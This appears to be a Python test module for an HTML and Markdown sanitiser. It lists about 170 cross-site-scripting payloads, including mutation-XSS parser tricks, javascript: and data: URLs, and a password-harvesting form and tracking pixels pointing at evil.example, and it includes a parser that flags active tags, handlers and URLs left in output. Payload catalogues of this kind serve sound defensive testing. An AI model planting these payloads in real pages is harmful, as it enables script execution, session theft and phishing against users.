"""Texts that attack, and a reader that tells whether anything of them is still alive in a page."""

import base64
import re
from html.parser import HTMLParser

RAW = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" OnErRoR="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:x onerror\n=\nalert(1)//",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x'></use></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><mi href='javascript:alert(1)'>x</mi></math>",
    "<math><maction actiontype='statusline#https://evil.example' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><semantics><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></semantics></math>",
    "<math><mi><table><mi><style><img src=x onerror=alert(1)></style></mi></table></mi></math>",
    "<math><mtext><style><path id='</style><img onerror=alert(1) src>'></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<noscript><noscript><img src=x onerror=alert(1)></noscript></noscript>",
    "<template><script>alert(1)</script></template>",
    "<template><img src=x onerror=alert(1)></template>",
    "<div><template shadowrootmode=open><script>alert(1)</script></template></div>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=https://evil.example/x.swf>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=https://evil.example/><input name=password><button>Sign in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video src=x onerror=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&Tab;script&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='//evil.example/x'>x</a>",
    "<a href='/\\evil.example/x'>x</a>",
    "<a href='/\t/evil.example/x'>x</a>",
    "<a href='blob:https://evil.example/x'>x</a>",
    "<a href='#' onclick=alert(1)>x</a>",
    "<a id=document name=cookie href=#>x</a>",
    "<form id=document><input name=getElementById></form>",
    "<img name=currentScript src=/x.js>",
    "<img id=csrf_token src=/x>",
    "<a target=_blank href=https://evil.example/>x</a>",
    "<img srcset='https://evil.example/x 1x' src=/x>",
    "<img src=https://evil.example/pixel.gif>",
    "<img src=//evil.example/pixel.gif>",
    "<table background=https://evil.example/x><tr><td background=//evil.example/x>x</table>",
    "<!--><script>alert(1)</script>-->",
    "<!--!><img src=x onerror=alert(1)>--!>",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img id=x src=x onerror=alert(1)>'>",
    "<custom-element onpointerrawupdate=alert(1) is=x>x</custom-element>",
    "<div class='lesson-question' data-question='a#b' hx-get='/learn/x' data-hx-on=alert(1)>x</div>",
    "<plaintext><script>alert(1)</script>",
    "<p><svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>",
)
MARKDOWN = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\tscript:alert(1)>)",
    "[x]( javascript:alert(1) )",
    "[x](\x01javascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](///evil.example)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[y]\n\n[y]: <javascript:alert(1)> 'title'",
    "<javascript:alert(1)>",
    "<javascript://evil.example/%0aalert(1)>",
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](https://a.example 'a\" onmouseover=\"alert(1)')",
    '![x"onerror="alert(1)](media/x.png)',
    "![x](x' onerror='alert(1))",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](data:text/html,<script>alert(1)</script>)",
    "![x](https://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
    "![x](media/x.mp4){ subtitles=javascript:alert(1) onerror=alert(1) }",
    "![x](https://evil.example/x.mp4)",
    "words\n{ onclick=alert(1) style=color:red name=x }",
    "*word*{ onclick='alert(1)' }",
    "[x](https://a.example){ href=javascript:alert(1) }",
    "[x](https://a.example){ target=_blank formaction=x }",
    "# Title { onclick=alert(1) #csrf_token }",
    "## Part { #document name=x }",
    "`code`{ onmouseover=alert(1) }",
    "| a |\n|---|\n| b { onclick=alert(1) } |",
    "- item\n{ onclick=alert(1) }",
    "/// note | T\n    attrs: {onclick: alert(1), id: csrf_token, style: 'position:fixed'}\n\nx\n///",
    "/// details | T\n    attrs: {ontoggle: alert(1)}\n    open: true\n\nx\n///",
    "/// tab | <img src=x onerror=alert(1)>\nx\n///",
    "/// note | <img src=x onerror=alert(1)>\nx\n///",
    "/// html | script\nalert(1)\n///",
    "/// html | img[src=x onerror=alert(1)]\n///",
    "/// question | <script>#alert\n///",
    "```html onclick=alert(1)\n<script>alert(1)</script>\n```",
    "``` { .python onclick=alert(1) #csrf_token title='<img src=x onerror=alert(1)>' }\nx\n```",
    '```mermaid\nflowchart LR\n A-->B\n click A "javascript:alert(1)"\n```',
    '```mermaid\nflowchart LR\n A-->B\n click A href "javascript:alert(1)" _blank\n```',
    '```mermaid\nflowchart LR\n A["<img src=x onerror=alert(1)>"] --> B["<script>alert(1)</script>"]\n```',
    "```mermaid\nsequenceDiagram\n A->>B: <script>alert(1)</script>\n link A: x @ javascript:alert(1)\n```",
    "```mermaid\n%%{init: {'securityLevel': 'loose', 'themeCSS': '</style><script>alert(1)</script>'}}%%\nflowchart LR\n A-->B\n```",
    "```mermaid\nflowchart LR\n A-->B\n style A fill:url(https://evil.example/x)\n```",
    "```mermaid\n</code></pre><script>alert(1)</script>\n```",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\text{</mtext></math><script>alert(1)</script>}$",
    r"$\mathrm{<script>alert(1)</script>}$",
    r"$\style{background:url(//evil.example)}{x}$",
    r"$\class{callout}{x}$",
    r'$\color{red" onclick="alert(1)}x$',
    r"$\html{<img src=x onerror=alert(1)>}$",
    r"$\operatorname{<img src=x onerror=alert(1)>}$",
    r"$\unicode{x3c}script\unicode{x3e}$",
    r"$<script>alert(1)</script>$",
    "$$\n\\href{javascript:alert(1)}{x}\n$$",
    "```math\n\\href{javascript:alert(1)}{\\text{<svg onload=alert(1)>}}\n```",
    '*[x]: " onmouseover="alert(1)\n\nx',
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)> [x](javascript:alert(1))",
    "[^<script>]\n\n[^<script>]: alert(1)",
    "Term\n:   <script>alert(1)</script>",
    "\x02wzxhzdk:0\x03 <script>alert(1)</script>",
    "\x02amp\x03lt;script\x02amp\x03gt;alert(1)",
    "klzzwxh:0000 \x02klzzwxh:0000\x03",
    '<abbr title="a" onclick="alert(1)">x</abbr>',
    '<abbr title="a&quot; onclick=&quot;alert(1)">x</abbr>',
    "<kbd onclick=alert(1)>x</kbd>",
    "<sub\nonclick=alert(1)>x</sub>",
    "<mark/onclick=alert(1)>x</mark>",
    "<br onclick=alert(1)>",
)
ALL = RAW + MARKDOWN

_NOWHERE = (
    "script style template noscript iframe frame frameset object embed applet base meta link form input button select textarea svg use "
    "foreignobject animate set annotation-xml mglyph maction plaintext xmp marquee isindex body html head portal dialog"
)
_ALIVE_NOWHERE = frozenset(_NOWHERE.split())
_DEAD_ATTRIBUTES = frozenset(
    (
        "style",
        "name",
        "srcdoc",
        "srcset",
        "formaction",
        "action",
        "background",
        "target",
        "xlink:href",
        "ping",
        "is",
        "data-hx-on",
        "hx-get",
        "http-equiv",
    )
)
_SKIPPED_BY_BROWSERS = re.compile(r"[\x00-\x20\\]")


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.alive: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _ALIVE_NOWHERE:
            self.alive.append(f"<{tag}>")
        for name, value in attrs:
            self._attribute(tag, name, value or "")

    def _attribute(self, tag: str, name: str, value: str) -> None:
        if name.startswith("on") or name in _DEAD_ATTRIBUTES or (name == "href" and tag != "a"):
            self.alive.append(f"<{tag} {name}>")
        if name == "id" and not value.startswith("h-"):
            self.alive.append(f"#{value}")
        if name in {"href", "src"} and not _harmless(tag, value):
            self.alive.append(f"<{tag} {name}={value[:60]}>")

    def handle_comment(self, data: str) -> None:
        self.alive.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.alive.append(f"<!{decl}>")

    def unknown_decl(self, data: str) -> None:
        self.alive.append(f"<![{data}]>")

    def handle_pi(self, data: str) -> None:
        self.alive.append(f"<?{data}>")


def _harmless(tag: str, value: str) -> bool:
    seen = _SKIPPED_BY_BROWSERS.sub(lambda found: "/" if found[0] == "\\" else "", value).lower()
    if tag == "img" and seen.startswith("data:image/svg+xml;base64,"):
        return not living_drawing(base64.b64decode(value.partition(",")[2]).decode("utf-8", "replace"))
    if seen.startswith("//"):
        return False
    scheme = re.match(r"[^/?#]*?:", seen)
    if scheme is None:
        return True
    return tag == "a" and scheme[0] in {"http:", "https:", "mailto:"}


def living_drawing(svg: str) -> list[str]:
    """What could act in an SVG, were it ever opened by itself."""
    return re.findall(
        r"<script\b|<foreignObject\b|\s(?:xlink:)?href=[\"'][^#]|<[^>]*\son\w+=|javascript:(?![^<]*</t)|@import|url\((?!#)",
        svg,
        re.IGNORECASE,
    )


def alive(html: str) -> list[str]:
    """Return what is active in ``html``: tags, handlers, addresses, ids that could shadow the page's; empty is good."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.alive
